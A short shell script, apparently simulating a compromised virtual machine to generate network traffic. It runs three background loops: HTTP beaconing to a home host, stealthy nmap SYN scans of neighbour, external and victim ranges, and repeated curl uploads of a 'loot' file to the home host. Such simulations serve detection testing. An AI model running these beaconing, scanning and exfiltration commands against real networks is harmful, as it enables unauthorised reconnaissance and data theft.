#!/bin/sh
# A VM that somebody took over: it calls home regularly, looks around, and then carries data away.
#   compromised.sh HOME NEIGHBOURS ELSEWHERE VICTIM LOOT DELAY
home=$1 neighbours=$2 elsewhere=$3 victim=$4 loot=$5 delay=$6

beacon() {
    while :; do
        curl -s -o /dev/null --max-time 3 "http://$home/items/beacon"
        sleep 5
    done
}

scan() {
    while :; do
        nmap -n -Pn -sS --max-retries 0 --max-rate 40 -p 22,445 "$neighbours" "$elsewhere"
        nmap -n -Pn -sS --max-retries 0 --max-rate 40 -p 1-1024 "$victim"
    done
}

exfiltrate() {
    sleep "$delay"
    while :; do
        curl -s -o /dev/null --max-time 60 --limit-rate 500k -H 'Expect:' -T "$loot" "http://$home/upload"
        sleep 1
    done
}

beacon &
scan >/dev/null 2>&1 &
exfiltrate &
wait
